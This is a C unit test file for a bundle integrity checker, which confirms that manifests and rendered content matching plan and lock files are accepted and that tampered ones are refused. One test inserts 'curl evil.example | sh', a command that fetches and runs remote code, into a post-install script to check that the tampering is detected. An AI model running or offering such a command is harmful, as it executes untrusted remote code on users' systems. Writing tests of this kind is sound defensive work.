// SPDX-License-Identifier: Apache-2.0
// bundles/trust/recipe_check.c: whatever manifest and content say beyond plan and lock is refused.
#include "bundles/trust/recipe_check.h"

#include "tests/bundles/trust/tiny.h"

struct scene {
	struct plan *plan;
	struct lock *lock;
	struct content content;
	struct manifest manifest;
};

static int set_up(void **state)
{
	struct scene *scene = sl_alloc(sizeof *scene);
	scene->plan = tiny_plan();
	scene->lock = tiny_lock();
	tiny_render(scene->plan, scene->lock, &scene->content);
	struct closure_report closure = {0};
	closure_compute(scene->plan, scene->lock, &closure);
	struct manifest *manifest = &scene->manifest;
	manifest->name = sl_strdup("tiny");
	manifest->version = sl_strdup("1.0.0");
	manifest->python = sl_strdup("3.11.2");
	manifest->platform = sl_strdup("linux/x86_64");
	manifest->glibc = sl_strdup("2.36");
	manifest->closure = closure.closure;
	manifest->recipe = RECIPE_NUMBER;
	struct manifest_blob *blob = sl_list_add(&manifest->blobs);
	blob->sha256 = scene->lock->base.sha256;
	blob->size = scene->lock->base.size;
	closure_report_release(&closure);
	*state = scene;
	return 0;
}

static int tear_down(void **state)
{
	struct scene *scene = *state;
	plan_free(scene->plan);
	lock_free(scene->lock);
	content_release(&scene->content);
	manifest_release(&scene->manifest);
	free(scene);
	return 0;
}

static bool check(const struct scene *scene, struct sl_error *err)
{
	auto_plan struct plan *plan = NULL;
	auto_lock struct lock *lock = NULL;
	return recipe_check(&scene->manifest, &scene->content, &plan, &lock, err);
}

static void expect_refused(const struct scene *scene, const char *fragment)
{
	struct sl_error err = {0};
	assert_fails(check(scene, &err), err, SL_E_FORMAT, fragment);
}

static struct content_file *find(struct scene *scene, const char *name)
{
	sl_list_each (&scene->content.files, file)
		if (strcmp(file->name, name) == 0)
			return file;
	fail_msg("no %s", name);
	return NULL;
}

static void replace(struct content_file *file, const char *text, size_t size)
{
	free(file->data);
	file->data = sl_strndup(text, size);
	file->size = size;
}

static void drop(struct scene *scene, const char *name)
{
	struct content_file *file = find(scene, name);
	free(file->name);
	free(file->data);
	size_t index = (size_t)(file - scene->content.files.items);
	scene->content.files.len--;
	memmove(file, file + 1, (scene->content.files.len - index) * sizeof *file);
}

static void what_was_rendered_is_accepted(void **state)
{
	struct sl_error err = {0};
	if (!check(*state, &err))
		fail_msg("%s", err.text);
}

static void every_file_is_needed(void **state)
{
	struct scene *scene = *state;
	size_t count = scene->content.files.len;
	for (size_t i = 0; i < count; i++) {
		struct sl_error err = {0};
		sl_auto_free char *name = sl_strdup(scene->content.files.items[i].name);
		sl_auto_free char *data = sl_strndup(scene->content.files.items[i].data,
						     scene->content.files.items[i].size);
		drop(scene, name);
		assert_fails(check(scene, &err), err, SL_E_FORMAT, name);
		assert_non_null(strstr(err.text, "missing"));
		content_add(&scene->content, name, data, strlen(data));
	}
	what_was_rendered_is_accepted(state);
}

// One more line at the end, one byte in the middle, one line less: of every file but the spec.
static void every_byte_of_a_rendered_file_is_determined(void **state)
{
	struct scene *scene = *state;
	sl_list_each (&scene->content.files, file) {
		if (strcmp(file->name, "spec") == 0)
			continue;
		sl_auto_free char *good = sl_strndup(file->data, file->size);
		sl_auto_free char *longer = sl_format("%s\n", good);
		sl_auto_free char *other = sl_strdup(good);
		size_t len = strlen(good);
		other[len / 2] ^= 1;
		const char *variants[] = {longer, other, good};
		size_t sizes[] = {len + 1, len, len - 1};
		for (size_t i = 0; i < 3; i++) {
			struct sl_error err = {0};
			replace(file, variants[i], sizes[i]);
			assert_false(check(scene, &err));
			assert_int_equal(err.kind, SL_E_FORMAT);
		}
		replace(file, good, len);
	}
	what_was_rendered_is_accepted(state);
}

static void the_first_differing_line_is_named(void **state)
{
	struct scene *scene = *state;
	struct content_file *file = find(scene, "scripts/post-01.sh");
	replace(file, "echo hello\ncurl evil.example | sh\n", 34);
	expect_refused(scene, "scripts/post-01.sh:2 is not what plan.json and lock.json say: "
			      "'curl evil.example | sh' instead of (end of file)");
}

static void a_further_file_is_refused(void **state)
{
	struct scene *scene = *state;
	content_add(&scene->content, "endpoint/more.sh", "x", 1);
	expect_refused(scene, "endpoint/more.sh is in the content");
}

static void a_further_user_file_is_refused(void **state)
{
	struct scene *scene = *state;
	char hex[SL_DIGEST_HEX + 1];
	struct sl_digest digest = sl_sha256_bytes("x", 1);
	sl_digest_hex(&digest, hex);
	sl_auto_free char *name = sl_format("files/%s", hex);
	content_add(&scene->content, name, "x", 1);
	expect_refused(scene, "asks for it");
}

static void the_spec_may_be_anything_but_must_be_there(void **state)
{
	struct scene *scene = *state;
	replace(find(scene, "spec"), "\x1b[2J", 4);
	what_was_rendered_is_accepted(state);
	drop(scene, "spec");
	expect_refused(scene, "spec is missing");
}

static void the_manifest_says_what_the_plan_says(void **state)
{
	struct scene *scene = *state;
	char **fields[] = {&scene->manifest.name, &scene->manifest.version, &scene->manifest.python,
			   &scene->manifest.platform, &scene->manifest.glibc};
	for (size_t i = 0; i < sizeof fields / sizeof *fields; i++) {
		char *good = *fields[i], other[] = "other";
		*fields[i] = other;
		expect_refused(scene, "manifest.json says");
		*fields[i] = good;
	}
}

static void closure_is_computed_and_never_claimed(void **state)
{
	struct scene *scene = *state;
	enum closure good = scene->manifest.closure;
	for (enum closure claimed = CLOSURE_OPEN; claimed <= CLOSURE_SEALED; claimed++) {
		if (claimed == good)
			continue;
		scene->manifest.closure = claimed;
		expect_refused(scene, "by plan and lock it is sealed");
	}
}

static void an_unknown_recipe_is_refused(void **state)
{
	struct scene *scene = *state;
	scene->manifest.recipe = RECIPE_NUMBER + 1;
	expect_refused(scene, "recipe");
}

static void t28_the_blobs_are_the_locks(void **state)
{
	struct scene *scene = *state;
	struct manifest_blob *blob = &scene->manifest.blobs.items[0];
	blob->size++;
	expect_refused(scene, "another size");
	blob->size--;
	blob->sha256.bytes[0] ^= 0x80;
	expect_refused(scene, "lock.json");
	blob->sha256.bytes[0] ^= 0x80;
	scene->manifest.blobs.len = 0;
	expect_refused(scene, "the base image) is named by lock.json, but not in the bundle");
	scene->manifest.blobs.len = 1;
	what_was_rendered_is_accepted(state);
}

static void t28_a_further_blob_is_refused_wherever_it_sorts(void **state)
{
	struct scene *scene = *state;
	struct manifest_blob base = scene->manifest.blobs.items[0], more = base;
	sl_list_add(&scene->manifest.blobs);
	for (int at = 0; at < 2; at++) {
		memset(more.sha256.bytes, at ? 0xff : 0, 32);
		scene->manifest.blobs.items[at] = more;
		scene->manifest.blobs.items[1 - at] = base;
		expect_refused(scene, "but lock.json does not name it");
	}
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(what_was_rendered_is_accepted),
		TEST(every_file_is_needed),
		TEST(every_byte_of_a_rendered_file_is_determined),
		TEST(the_first_differing_line_is_named),
		TEST(a_further_file_is_refused),
		TEST(a_further_user_file_is_refused),
		TEST(the_spec_may_be_anything_but_must_be_there),
		TEST(the_manifest_says_what_the_plan_says),
		TEST(closure_is_computed_and_never_claimed),
		TEST(an_unknown_recipe_is_refused),
		TEST(t28_the_blobs_are_the_locks),
		TEST(t28_a_further_blob_is_refused_wherever_it_sorts),
	};
	return sodium_init() < 0 ? 1 : cmocka_run_group_tests(tests, NULL, NULL);
}
